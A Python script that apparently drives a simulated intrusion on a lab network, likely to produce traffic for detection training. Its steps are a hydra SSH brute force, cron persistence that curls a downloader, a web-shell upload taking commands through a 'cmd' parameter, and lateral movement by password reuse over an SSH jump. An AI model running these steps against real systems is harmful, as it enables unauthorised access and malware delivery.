"""The story: what happens in the city, one function a step."""
import subprocess
import time

import city

SHELL_PAUSE_S = 2


def askpass(node, password):
    """Let ssh on this node take the password from a program, since no person is there to type it."""
    node.run(["sh", "-c", f"printf '#!/bin/sh\\necho {password}\\n' >/run/askpass; chmod 755 /run/askpass"])
    return ["env", "SSH_ASKPASS=/run/askpass", "SSH_ASKPASS_REQUIRE=force"]


def login(node, source, account, host, password, *command):
    """Log in with a password; it may fail, people mistype."""
    argv = askpass(node, password) + ["ssh", "-o", "NumberOfPasswordPrompts=1", "-b", source,
                                      f"{account}@{host.address}", *(command or ["true"])]
    subprocess.run(node.inside(argv), stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   stdout=subprocess.DEVNULL)


def ordinary_day(nodes):
    """Visitors come and go from now on, and the staff logs in."""
    people = nodes["people"]
    people.start("visits.py")
    for host in city.HOSTS:
        people.run(["ssh", "-i", "/run/tool/ops", f"ops@{host.address}", "id"])
        time.sleep(3)
    login(people, city.DESKS[1], "editor", city.EDU, "lotus-lake-pavilion-7")
    time.sleep(4)
    login(people, city.DESKS[1], "editor", city.EDU, "Lotus-Lake-Pavilion-7")
    time.sleep(5)
    login(people, city.DESKS[2], "ward", city.HOSP, "Quiet-Corridor-Nine-Keys")
    time.sleep(15)


def guess(nodes):
    """hydra tries names and passwords until one pair works."""
    attacker = nodes["attacker"]
    for name, words in (("names", city.GUESSED_NAMES), ("words", city.GUESSED_PASSWORDS)):
        attacker.run(["sh", "-c", f"cat >/run/root/{name}"], input="\n".join(words) + "\n")
    found = attacker.run(["sh", "-c", "cd /run/root && exec hydra -I -t 4 -f -L names -P words "
                                      f"ssh://{city.EDU.address}"])
    if f"password: {city.CONTRACTOR.password}" not in found:
        raise RuntimeError(f"hydra did not find the password: {found}")


def settle(nodes):
    """The attacker logs in with it and leaves a cron job that fetches the downloader."""
    time.sleep(6)
    login(nodes["attacker"], city.ATTACKER, "opsvc", city.EDU, city.CONTRACTOR.password,
          f"id; echo '{city.CRON_JOB.strip()}' | crontab -")
    nodes[city.EDU.name].wait_for("(opsvc) REPLACE (opsvc)", 5)


def scan(nodes):
    """The attacker looks for careless names on the second host."""
    time.sleep(4)
    if nodes["attacker"].start("scan.py").wait():
        raise RuntimeError("the scanner failed")


def upload(nodes):
    """What the scan found open takes a script, and the script runs commands."""
    attacker, target = nodes["attacker"], f"http://{city.TAX.address}{city.SHELL_PATH}"
    time.sleep(5)
    attacker.run(["curl", "-fsS", "-T", "-", target], input=city.SHELL_TEXT)
    for command in city.SHELL_COMMANDS:
        time.sleep(SHELL_PAUSE_S)
        attacker.run(["curl", "-fsS", f"{target}?cmd={command.replace(' ', '+')}"])
    nodes[city.TAX.name].run(["test", "-s", "/dev/shm/.dl.sh"])


def spread(nodes):
    """The third host turns an injection down, but knows the contractor's password too."""
    attacker = nodes["attacker"]
    time.sleep(6)
    attacker.run(["curl", "-sS", "-o", "/dev/null", f"http://{city.HOSP.address}{city.INJECTION}"])
    time.sleep(5)
    argv = askpass(attacker, city.CONTRACTOR.password) + [
        "ssh", "-J", f"opsvc@{city.EDU.address}", f"opsvc@{city.HOSP.address}", "crontab -"]
    attacker.run(argv, input=city.CRON_JOB)


def fetch(nodes):
    """Cron fetches the downloader on the first and on the third host."""
    for host in (city.EDU, city.HOSP):
        nodes[host.name].wait_for(f"curl -fsS {city.DOWNLOADER}", 130)


def go_on(_):
    """Nobody has noticed; the visitors keep coming."""
    time.sleep(20)


STEPS = (
    ("an ordinary day begins: visitors, staff, cron", ordinary_day),
    ("hydra guesses passwords on edu-web01", guess),
    ("the attacker logs in there and leaves a cron job", settle),
    ("a scanner goes over tax-app01", scan),
    ("a script is uploaded to tax-app01 and used as a web shell", upload),
    ("hosp-web01: an injection fails, the reused password does not", spread),
    ("waiting for cron to fetch the downloader on edu-web01 and hosp-web01", fetch),
    ("the ordinary day goes on for a while", go_on),
)
